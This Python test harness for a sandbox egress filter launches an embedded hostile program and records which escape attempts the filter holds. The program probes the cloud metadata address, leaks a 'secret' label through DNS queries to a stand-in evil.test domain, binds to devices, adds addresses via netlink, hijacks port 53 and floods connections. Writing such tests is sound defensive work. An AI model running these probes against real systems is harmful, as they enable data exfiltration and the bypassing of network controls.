"""Gives a hostile program a way out of its sandbox to one host, as whichever user runs this, and writes what happened.

Run as ``python way_out.py BACKEND``. The program tries to reach more than it may; a canary listens where it must not
get, at all addresses of this machine.
"""

import json
import os
import socket
import sys
import threading
from collections.abc import Callable, Sequence
from contextlib import suppress
from pathlib import Path

import anyio

from vsm_mcp.events import EgressDecided, EgressEnded, Event
from vsm_mcp.sandbox.egress.egress import connected
from vsm_mcp.sandbox.egress.rules import Egress
from vsm_mcp.sandbox.policy import Limits, SandboxPolicy
from vsm_mcp.sandbox.sandbox import Sandbox
from vsm_mcp.world.processes import Command, LocalProcesses

CONNECTIONS = 8
BYTES = 200_000
LEADS_TO = {
    "good.test": "127.0.0.1",
    "loop.wild.test": "127.0.0.1",
    "six.wild.test": "::1",
    "mapped.wild.test": "::ffff:127.0.0.1",
    "nat.wild.test": "64:ff9b::7f00:1",
    "tunnel.wild.test": "2002:7f00:1::",
    "zero.wild.test": "0.0.0.0",  # noqa: S104 - to be refused
    "meta.wild.test": "169.254.169.254",
    "lan.wild.test": "10.0.0.1",
    "meta.named.test": "169.254.169.254",
}
PROGRAM = """
import json, socket, struct, sys
good, canary, own = json.loads(sys.stdin.readline())
def reach(host, port):
    try:
        with socket.create_connection((host, port), timeout=5) as one:
            one.sendall(b"hello")
            return "open: " + repr(one.recv(5))
    except OSError as error:
        return "held: " + type(error).__name__
def tell(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(0.2)
        try:
            one.sendto(b"hello", (host, port))
            return "open: " + repr(one.recv(5))
        except OSError as error:
            return "held: " + type(error).__name__
def ask(kind, name):
    wire = b"".join(bytes([len(label)]) + label for label in name.split(b".")) + bytes(1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(5)
        one.connect(("127.0.0.1", 53))
        one.send(struct.pack("!6H", 1, 256, 1, 0, 0, 0) + wire + struct.pack("!2H", kind, 1))
        reply = one.recv(512)
    return "held: no such name" if reply[3] & 15 == 3 and reply[7] == 0 else "open: " + repr(reply)
def device():
    with socket.socket() as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        one.connect((own, canary))
        return "open: connected"
def link():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as one:
        address = socket.inet_aton("1.1.1.1")
        body = struct.pack("=BBBBIHH4sHH4s", 2, 32, 0, 0, 1, 8, 2, address, 8, 1, address)
        one.send(struct.pack("IHHII", 16 + len(body), 20, 0x605, 1, 0) + body)
        code = struct.unpack_from("i", one.recv(4096), 16)[0]
        return "held: " + str(code) if code else "open: changed"
def steal():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        one.bind(("127.0.0.1", 53))
        return "open: bound"
def attempt(call, *words):
    try:
        return call(*words)
    except OSError as error:
        return "held: " + type(error).__name__
found = {"control": attempt(reach, "good.test", good)}
found |= {name: attempt(reach, name, good) for name in LEADS if name != "good.test"}
found |= {
    "other name": attempt(reach, "evil.test", good), "name with secret": attempt(reach, "secret.evil.test", good),
    "below": attempt(reach, "x.good.test", good), "other port": attempt(reach, "good.test", canary),
    "number": attempt(reach, "127.0.0.1", good), "short number": attempt(reach, "2130706433", good),
    "six": attempt(reach, "::1", good), "own address": attempt(reach, own, canary),
    "own address again": attempt(reach, own, good),
    "metadata": attempt(reach, "169.254.169.254", 80), "unnamed": attempt(reach, "127.77.200.200", good),
    "internet": attempt(reach, "1.1.1.1", 443), "datagram": attempt(tell, own, canary),
    "datagram to a name": attempt(tell, "127.77.0.1", good), "names elsewhere": attempt(tell, "1.1.1.1", 53),
    "text": attempt(ask, 16, b"secret.evil.test"), "any": attempt(ask, 255, b"evil.test"),
    "service": attempt(ask, 65, b"evil.test"), "dot": attempt(ask, 1, b"good" + b"\\x2e" + b"test.evil"),
    "device": attempt(device), "new address": attempt(link), "names for itself": attempt(steal),
}
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
    one.connect(("127.0.0.1", 53))
    for number in range(60):
        one.send(bytes(range(number % 256)) * (number % 5))
many = []
for _ in range(3 * COUNT):
    one = socket.create_connection(("good.test", good), timeout=5)
    one.sendall(b"x")
    many.append(one)
for one in many:
    one.close()
try:
    with socket.create_connection(("good.test", good), timeout=5) as one:
        while True:
            one.sendall(bytes(10000))
except OSError as error:
    found["flood"] = "held: " + type(error).__name__
found["control afterwards"] = attempt(reach, "good.test", good)
print(json.dumps(found))
"""


class Server:
    """Counts those who come, how many at once, and their bytes; sends each the first bytes back."""

    def __init__(self, address: str) -> None:
        self.socket = socket.create_server((address, 0), backlog=128)
        self.port = int(self.socket.getsockname()[1])
        self.came = self.here = self.most_here = self.most_bytes = 0
        self._lock = threading.Lock()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            one, _ = self.socket.accept()
            with self._lock:
                self.came += 1
                self.here += 1
                self.most_here = max(self.most_here, self.here)
            threading.Thread(target=self._attend, args=(one,), daemon=True).start()

    def _attend(self, one: socket.socket) -> None:
        size = 0
        with one, suppress(OSError):
            one.settimeout(10)
            while data := one.recv(65536):
                if size == 0:
                    one.sendall(data[:5])
                size += len(data)
        with self._lock:
            self.here -= 1
            self.most_bytes = max(self.most_bytes, size)


async def main() -> None:
    good, canary = Server("127.0.0.1"), Server("0.0.0.0")  # noqa: S104 - the program tries every address
    heard: list[Event] = []
    said = await attack(good.port, canary.port, heard.append)
    ended = [event for event in heard if isinstance(event, EgressEnded)]
    decided = [event for event in heard if isinstance(event, EgressDecided)]
    report = {
        "outcomes": json.loads(said),
        "canary": canary.came,
        "most_at_once": good.most_here,
        "most_bytes": good.most_bytes,
        "reached": list(ended[0].reached),
        "refused": sorted({event.host for event in decided if not event.allowed}),
        "events": len(heard),
    }
    sys.stdout.write(json.dumps(report))


async def attack(good: int, canary: int, emit: Callable[[Event], None]) -> bytes:
    """Run the program, and return what it says."""
    egress = Egress(
        allow=(f"good.test:{good}", f"*.wild.test:{good}", f"meta.named.test:{good}"),
        private=("good.test", "meta.named.test"),
        connections=CONNECTIONS,
        bytes_per_connection=BYTES,
        idle=1.0,
    )
    program = f"LEADS = {list(LEADS_TO)!r}\nCOUNT = {CONNECTIONS}\n{PROGRAM}"
    command = Command(argv=("/usr/bin/python3", "-I", "-S", "-c", program))
    processes = LocalProcesses()
    policy = SandboxPolicy(limits=Limits(cpu_cores=None))
    with anyio.fail_after(50):
        async with Sandbox.bubblewrap(processes).open(command, policy) as confined:
            status = Path(f"/proc/{confined.pid}/status").read_text()
            user = int(status.partition("Uid:")[2].split()[0]) if os.geteuid() == 0 else None
            first = int(status.partition("PPid:")[2].split()[0])
            async with connected(
                first, egress, processes=processes, run_as=user, subject="hostile", emit=emit, resolve=resolve
            ):
                await confined.stdin.send(json.dumps([good, canary, own_address()]).encode() + b"\n")
                said = b"".join([chunk async for chunk in confined.stdout])
                return said or b"".join([chunk async for chunk in confined.stderr])


async def resolve(host: str, _port: int) -> Sequence[str]:
    return [LEADS_TO[host]]


def own_address() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return "127.0.0.1"
        return str(probe.getsockname()[0])


anyio.run(main, backend=sys.argv[1])
